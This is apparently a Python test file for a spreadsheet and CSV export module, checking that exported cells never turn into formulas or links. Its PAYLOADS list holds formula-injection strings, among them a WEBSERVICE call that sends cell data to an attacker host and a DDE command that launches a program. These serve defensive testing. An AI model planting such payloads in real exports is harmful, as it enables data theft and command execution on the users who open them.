"""Spreadsheets: what goes in comes out, and nothing in it calculates."""

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from coding.errors import TooManyRows
from coding.exchange import spreadsheet
from coding.exchange.spreadsheet import (
    MOST_UNITS,
    Column,
    Table,
    parts,
    printable,
    sheet_names,
    write_csv,
    write_sheets,
    write_xlsx,
)

AT = datetime(2026, 1, 12, 9, tzinfo=UTC)
PAYLOADS = [
    '=HYPERLINK("http://attacker.example","klik")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://attacker.example/"&A1)',
    "+1+1",
    "-2+3",
    "- ya, saya setuju",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "\n=1+1",
    "{=SUM(1,2)}",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "'tanda petik di depan",
    "http://attacker.example/x.png",
    "https://attacker.example",
    "mailto:a@attacker.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "ftp://attacker.example",
    "001",
    "3-5",
    "1E5",
    "1.500.000",
    "12-01-2026",
    "TRUE",
    "#REF!",
    "baris satu\nbaris dua\n\nbaris empat",
    "  spasi di kedua tepi  ",
    "kolom\ttab",
    '<script>alert("x")</script> & <b>tebal</b>',
    "&amp; &#61;1+1",
    "![a](http://attacker.example/a.png)",
    "_x0041_ dan _x000D_ dan __x0009__",
    "]]>",
    "\u202eterbalik\u202c \u200bnol\ufeff",
    "😀 emoji 👩‍👩‍👧 dan aksara Lontara ᨒᨚᨈᨑ",
    "a" * 10_000,
    '"kutip", koma; titik koma',
]
TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"), max_size=60)


def xlsx(*texts: str) -> bytes:
    table = Table([Column("No"), Column("Kutipan")], [[number, text] for number, text in enumerate(texts, start=1)])
    return write_xlsx(table, [("Proyek", texts[0])], names=("Kutipan", "Keterangan"), at=AT)


def read(data: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Kutipan"]
    return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]


def test_no_cell_becomes_a_formula_or_a_link_and_every_text_is_read_back_as_it_was() -> None:
    data = xlsx(*PAYLOADS)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert [row[1] for row in read(data)] == PAYLOADS
    assert [row[0] for row in read(data)] == list(range(1, len(PAYLOADS) + 1))
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        everything = b"".join(packed.read(name) for name in packed.namelist() if name.endswith((".xml", ".rels")))
    assert b"<f>" not in everything
    assert b"<hyperlink" not in everything
    assert b'TargetMode="External"' not in everything


@given(st.lists(TEXT.filter(bool), min_size=1, max_size=4))
@example(["_x0041_"])
@example(["_x0041"])
@settings(max_examples=60, deadline=None)
def test_any_text_is_read_back_as_it_was_but_for_control_characters(texts: list[str]) -> None:
    assert [row[1] for row in read(xlsx(*texts))] == [printable(text) for text in texts]


def test_control_characters_become_visible_signs() -> None:
    assert printable("a\x00b\x0bc\rd\x1fe\ud800f\uffff") == "a␀b␋c␍d␟e�f�"
    assert printable("tab\tdan\nbaris") == "tab\tdan\nbaris"
    assert read(xlsx("a\x00b\r\n"))[0][1] == "a␀b␍\n"


@pytest.mark.parametrize("letter", ["x", "😀"])
def test_a_text_too_long_for_a_cell_goes_on_in_the_next_column(letter: str) -> None:
    long = letter * 40_000
    data = xlsx("pendek", long)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Kutipan"]
    headings = [cell.value for cell in sheet[1]]
    assert headings[:3] == ["No", "Kutipan", "Kutipan (2)"]
    rows = read(data)
    assert rows[0][1:] == ["pendek"] + [None] * (len(headings) - 2)
    assert "".join(str(piece) for piece in rows[1][1:]) == long
    assert all(len(str(piece).encode("utf-16-le")) // 2 <= MOST_UNITS for piece in rows[1][1:])


def test_a_text_that_just_fits_stays_in_one_cell() -> None:
    assert parts("x" * MOST_UNITS) == ["x" * MOST_UNITS]
    assert [len(piece) for piece in parts("x" * (MOST_UNITS + 1))] == [MOST_UNITS, 1]
    assert len(read(xlsx("x" * MOST_UNITS))[0]) == 2


def test_the_heading_stays_in_view_and_the_second_sheet_says_what_it_is() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx("=Studi")))
    assert book.sheetnames == ["Kutipan", "Keterangan"]
    assert book["Kutipan"].freeze_panes == "A2"
    assert book["Kutipan"]["B2"].alignment.wrap_text
    assert [cell.value for cell in book["Keterangan"][1]] == ["Proyek", "=Studi"]


def test_more_rows_than_a_sheet_holds_are_refused_and_not_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet, "MOST_ROWS", 3)
    assert len(read(xlsx("a", "b"))) == 2
    with pytest.raises(TooManyRows):
        xlsx("a", "b", "c")


def test_csv_without_the_guard_holds_every_text_as_it_was() -> None:
    table = Table([Column("Kutipan")], [[text] for text in PAYLOADS])
    data = write_csv(table, guard=False)
    assert data.startswith(b"\xef\xbb\xbfKutipan\r\n")
    assert [row[0] for row in read_csv(data)] == PAYLOADS


@given(st.lists(TEXT.filter(bool), min_size=1, max_size=4))
@example(PAYLOADS)
@settings(max_examples=60, deadline=None)
def test_the_guard_of_csv_leaves_nothing_that_calculates_and_can_be_taken_off_again(texts: list[str]) -> None:
    cells = [row[0] for row in read_csv(write_csv(Table([Column("Kutipan")], [[text] for text in texts])))]
    for text, cell in zip(texts, cells, strict=True):
        assert cell.lstrip()[:1] not in set("=+-@|%＝＋－＠")
        taken_off = cell[1:] if re.match(r"''*([\t\r]|\s*[=+\-@|%＝＋－＠])", cell) else cell
        assert taken_off == text


def test_the_guard_leaves_ordinary_speech_and_numbers_alone() -> None:
    table = Table([Column("No"), Column("Kutipan")], [[-1, "Kami rapat - setiap Senin"], [None, "'saya' katanya"]])
    assert read_csv(write_csv(table)) == [["-1", "Kami rapat - setiap Senin"], ["", "'saya' katanya"]]


def test_sheets_have_names_that_a_worksheet_may_have_each_once() -> None:
    names = sheet_names(["Dinas [A/B]?", "", "x" * 40, "X" * 40, "kunci", "Kunci"])
    assert names[0] == "Dinas  A B"
    assert len({one.casefold() for one in names}) == len(names)
    assert all(0 < len(one) <= 31 and not set(one) & set("[]:*?/\\") for one in names)


def test_each_table_stands_on_a_sheet_of_its_own_and_what_they_are_about_on_the_last() -> None:
    at = datetime(2026, 1, 14, tzinfo=UTC)
    tables = [(name, Table([Column("Kode")], [[f"=1+{name}"]])) for name in ("satu", "dua")]
    book = openpyxl.load_workbook(io.BytesIO(write_sheets(tables, [("Studi", "MPP")], name="Keterangan", at=at)))
    assert book.sheetnames == ["satu", "dua", "Keterangan"]
    assert book["dua"]["A2"].value == "=1+dua"
    assert book["dua"]["A2"].data_type == "s"
